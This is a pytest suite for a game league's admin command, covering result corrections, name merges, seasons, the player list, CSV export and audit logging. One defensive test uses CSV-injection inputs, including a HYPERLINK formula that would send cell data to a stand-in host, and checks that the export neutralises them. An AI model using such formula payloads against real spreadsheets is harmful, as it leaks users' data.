"""A person runs the league (issue 31, item 7): ``pitchpad league admin`` (the real command, in
its own process, on the running league's SQLite file) corrects and deletes results, merges two
spellings of a name, starts a season or a monthly ladder, keeps the club's list of players that
the units offer on their pads, exports CSV, and writes who changed what. The league (real
broker, real paho clients) and its page follow each change by themselves.
"""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

from app_rig import Rig
from club_rig import http_get, result_message, wait_until

from firmware.club.publisher import Publisher
from firmware.club.unit import ClubLink
from firmware.console.roster_screens import PickScreen
from firmware.storage.settings import Settings
from hal.buttons import Button


def admin(league, *args: str, by: str = "Marie") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "import sys; from firmware.cli import main; sys.exit(main())",
         "league", "--db", str(league.db), "admin", "--by", by, *args],
        capture_output=True, text=True, timeout=60)


def get(league, path: str) -> tuple[int, bytes]:
    return http_get(("127.0.0.1", league.port), path)


def state(league) -> dict:
    return json.loads(get(league, "/api/state")[1])


def table(league, game: str = "chifootmi") -> list[tuple[str, int]]:
    return [(row["name"], row["points"]) for row in state(league)["standings"].get(game, [])]


def play(unit, league, *matches, game="chifootmi") -> None:
    start = league.count()
    for number, players in enumerate(matches, start + 1):
        unit.result(result_message("table1", number, players, game=game))
    assert wait_until(lambda: league.count() == start + len(matches))


def test_a_wrong_result_is_corrected_and_the_page_follows_with_the_change_in_the_audit(mosquitto, league, tmp_path):
    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
        play(unit, league, (("red", "Ana", 2), ("blue", "Ben", 1)))
    assert table(league) == [("Ana", 3), ("Ben", 0)]
    listed = admin(league, "results")
    assert listed.returncode == 0 and "1 of 1 result(s) shown" in listed.stdout
    ident = listed.stdout.split("[")[1].split("]")[0]
    done = admin(league, "correct", ident, "--score", "red=1,blue=3")
    assert done.returncode == 0 and "corrected" in done.stdout, done.stderr
    assert wait_until(lambda: table(league) == [("Ben", 3), ("Ana", 0)]), "the running page follows"
    refused = admin(league, "correct", ident, "--score", "blue=1")
    assert refused.returncode == 2 and "shoot-out" in refused.stderr and len(refused.stderr.splitlines()) == 1
    assert "Traceback" not in refused.stderr
    trail = admin(league, "audit").stdout.splitlines()
    assert len(trail) == 1 and "Marie" in trail[0] and "correct" in trail[0]
    assert '"score": 2' in trail[0] and '"score": 3' in trail[0], "before and after"


def test_a_deleted_result_stays_out_even_when_its_unit_sends_it_again(mosquitto, league, tmp_path):
    message = result_message("table1", 1, (("red", "Ana", 2), ("blue", "Ben", 1)))
    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
        unit.result(message)
        assert wait_until(lambda: league.count() == 1 and len(unit.outbox) == 0)
        assert admin(league, "delete", message.id).returncode == 0
        assert wait_until(lambda: table(league) == [])
        unit.result(message)                             # a unit restored from a backup
        assert wait_until(lambda: len(unit.outbox) == 0), "receipted"
    assert table(league) == [] and league.count() == 0
    assert "delete" in admin(league, "audit").stdout


def test_two_spellings_of_a_name_are_merged_unless_they_played_each_other(mosquitto, league, tmp_path):
    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
        play(unit, league, (("red", "Ana", 2), ("blue", "Ben", 1)), (("red", "Anna", 3), ("blue", "Ben", 0)))
        assert sorted(table(league)) == [("Ana", 3), ("Anna", 3), ("Ben", 0)]
        done = admin(league, "merge", "Anna", "Ana")
        assert done.returncode == 0 and "Anna is now Ana in 1 result(s)" in done.stdout
        assert wait_until(lambda: table(league) == [("Ana", 6), ("Ben", 0)])
        refused = admin(league, "merge", "Ben", "Ana")
    assert refused.returncode == 2 and "played each other in 2 result(s)" in refused.stderr


def test_a_new_season_starts_empty_and_a_monthly_ladder_counts_this_month(mosquitto, league, tmp_path):
    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
        play(unit, league, (("red", "Ana", 2), ("blue", "Ben", 1)))
        done = admin(league, "season", "start", "Winter 2027")
        assert done.returncode == 0 and "season Winter 2027 started" in done.stdout
        assert wait_until(lambda: state(league)["period"] == {"kind": "season", "name": "Winter 2027"})
        assert table(league) == []
        play(unit, league, (("red", "Cy", 1), ("blue", "Ben", 0)))
        assert wait_until(lambda: table(league) == [("Cy", 3), ("Ben", 0)])
        old = admin(league, "standings", "--period", "").stdout
        assert "Ana" in old and "Cy" not in old, "the whole league before the season, kept"
        assert admin(league, "season", "monthly").returncode == 0
        assert wait_until(lambda: state(league)["period"]["kind"] == "monthly")
        month = state(league)["period"]["name"]
        play(unit, league, (("red", "Dee", 4), ("blue", "Eli", 0)))
        assert wait_until(lambda: table(league) == [("Dee", 3), ("Eli", 0)])
    assert len(month) == 7 and month[4] == "-"
    assert [entry for entry in admin(league, "audit").stdout.splitlines() if "period" in entry]


def test_the_clubs_list_of_players_reaches_a_unit_and_its_pads_offer_it(mosquitto, league, tmp_path):
    added = admin(league, "players", "add", "zoé", "Marc-andré", "Lou")
    assert added.returncode == 0 and "added Zoé" in added.stdout and "added Marc-André" in added.stdout
    refused = admin(league, "players", "add", "<b>x</b>")
    assert refused.returncode == 2 and "what a pad can type" in refused.stderr
    link = ClubLink(mosquitto.unit("table1"), tmp_path / "unit")
    link.start()
    try:
        assert wait_until(lambda: link.players() == ["Lou", "Marc-André", "Zoé"], timeout=15)
        rig = Rig(tmp_path / "unit", Settings.flat(language="en", players="two"), club=link)
        rig.press(1, Button.CARD1)                       # leave the splash
        rig.press(1, Button.CENTRE)                      # OK: play; who plays?
        assert rig.app.mode == "pick"
        screen = rig.app.screen_for(1)
        assert isinstance(screen, PickScreen)
        assert {"Lou", "Marc-André", "Zoé"} <= set(rig.app.pick.options)
        admin(league, "players", "remove", "Lou")
        assert wait_until(lambda: link.players() == ["Marc-André", "Zoé"], timeout=15)
    finally:
        link.stop()
    again = ClubLink(mosquitto.unit("table1"), tmp_path / "unit")
    assert again.players() == ["Marc-André", "Zoé"], "kept on the card for when the broker is away"


def test_every_result_is_on_the_results_pages_and_in_the_csv(mosquitto, league, tmp_path):
    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
        play(unit, league, *[(("red", f"P{n}", n % 5 + 1), ("blue", "Ben", 0)) for n in range(60)])
    assert len(state(league)["recent"]) == 20
    status, first = get(league, "/results")
    assert status == 200 and b"page 1 of 2 (60 results)" in first and first.count(b"<tr><td>") == 50
    status, second = get(league, "/results?page=2")
    assert first.count(b"P59 ") == 1 and second.count(b"<tr><td>") == 10 and b"P0 " in second
    status, body = get(league, "/results.csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:3] == ["finished", "table", "game"] and len(rows) == 61
    assert rows[1][7] == "P0" and rows[1][-2] == "P0", "oldest first; the winner named"
    exported = admin(league, "export", "--out", str(tmp_path / "board.csv"))
    assert exported.returncode == 0 and "60 result(s) written" in exported.stdout
    assert (tmp_path / "board.csv").read_bytes() == body


def test_set_aside_messages_are_listed_for_a_person_and_can_be_forgotten(mosquitto, league):
    from club_rig import raw_client

    from firmware.club import messages

    hostile = raw_client(mosquitto, "table2")
    hostile.publish(messages.topic("cafe", "table2", "result"), b"{nope", qos=1).wait_for_publish(5)
    hostile.loop_stop()
    assert wait_until(lambda: league.league.ignored == 1)
    listed = admin(league, "rejected")
    assert "table table2" in listed.stdout and "not JSON" in listed.stdout and "{nope" in listed.stdout
    assert admin(league, "rejected", "--forget", "1").returncode == 0
    assert wait_until(lambda: league.league.ignored == 0)
    assert "forget" in admin(league, "audit").stdout


def test_without_db_the_file_is_the_users_own_or_the_services_never_the_consoles(tmp_path):
    """The README's one-liner needs no root: the league's file is in the user's state folder
    (or systemd's StateDirectory), never /var/lib/pitchpad, the console's."""
    import os

    def admin_here(env: dict[str, str]) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-c", "import sys; from firmware.cli import main; sys.exit(main())",
             "league", "admin", "results"], capture_output=True, text=True, timeout=60,
            env={**{k: v for k, v in os.environ.items() if k not in ("STATE_DIRECTORY", "XDG_STATE_HOME")},
                 **env})

    done = admin_here({"HOME": str(tmp_path / "home")})
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "home/.local/state/pitchpad-league/league.sqlite").is_file()
    done = admin_here({"HOME": str(tmp_path / "home"), "STATE_DIRECTORY": str(tmp_path / "service")})
    assert done.returncode == 0 and (tmp_path / "service/league.sqlite").is_file()


def test_a_seasons_name_used_before_is_refused_and_never_brings_its_standings_back(mosquitto, league, tmp_path):
    """Issue 39, item 2: "Winter 2027" again said its standings start empty and showed the old
    ones (a season's name is its standings' key)."""
    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
        assert admin(league, "season", "start", "Winter 2027").returncode == 0
        play(unit, league, (("red", "Ana", 2), ("blue", "Ben", 1)))
        assert wait_until(lambda: table(league) == [("Ana", 3), ("Ben", 0)])
        assert admin(league, "season", "start", "Spring 2027").returncode == 0
        assert wait_until(lambda: state(league)["period"]["name"] == "Spring 2027")
        again = admin(league, "season", "start", "Winter 2027")
        play(unit, league, (("red", "Cy", 1), ("blue", "Dee", 0)))
    assert again.returncode == 2 and "Traceback" not in again.stderr
    assert len(again.stderr.splitlines()) == 1 and "a season called 'Winter 2027' was started on" in again.stderr
    assert "give this one another" in again.stderr and "started" not in again.stdout
    assert wait_until(lambda: table(league) == [("Cy", 3), ("Dee", 0)]), "Spring 2027 goes on, alone"
    assert state(league)["period"] == {"kind": "season", "name": "Spring 2027"}
    for taken in ("all", "2026-11"):
        refused = admin(league, "season", "start", taken)
        assert refused.returncode == 2 and "a name of its own" in refused.stderr
    assert "Ana" in admin(league, "standings", "--period", "Winter 2027").stdout, "the old season is kept"


def test_the_csv_carries_no_formula_and_a_spreadsheet_reads_its_accents(mosquitto, league, tmp_path):
    """Issue 39, item 4: a name "-A1", a level "+1+1" and a season '=HYPERLINK(…)' went out as
    formulas. Each such cell starts with an apostrophe (OWASP's CSV injection guidance), and the
    file starts with UTF-8's byte-order mark, by which Excel reads "Élodie" right."""
    season = '=HYPERLINK("http://x.test/?"&A1,"Prize")'
    assert admin(league, "season", "start", season).returncode == 0
    message = result_message("table1", 1, (("red", "-A1", 2), ("blue", "Élodie", 1)))
    hostile = type(message)(message.id, message.game, "+1+1", message.finished, message.players)
    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
        unit.result(hostile)
        assert wait_until(lambda: league.count() == 1)
    status, body = get(league, "/results.csv")
    exported = admin(league, "export", "--out", str(tmp_path / "board.csv"))
    assert status == 200 and exported.returncode == 0
    assert (tmp_path / "board.csv").read_bytes() == body
    assert body.startswith(b"\xef\xbb\xbf"), "a UTF-8 byte-order mark"
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["name 1"] == "'-A1" and cells["level"] == "'+1+1" and cells["period"] == "'" + season
    assert cells["winner"] == "'-A1" and cells["name 2"] == "Élodie"
    assert not [value for value in header + row if value.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert body.decode("utf-8-sig").splitlines()[1].startswith('"'), "every cell quoted"


def test_a_name_with_a_ligature_is_no_name_a_pad_can_type(league):
    """Issue 39, item 9: "Poﬆ" passed the name check ("ﬆ".upper() is "ST", which is in the
    alphabet as a piece of it); neither the club's list nor a correction takes it."""
    for name in ("Poﬆ", "Poﬅ", "Lıla", "Roſa"):
        refused = admin(league, "players", "add", name)
        assert refused.returncode == 2 and "what a pad can type" in refused.stderr, (name, refused.stderr)
    assert admin(league, "players", "add", "Élodie").returncode == 0
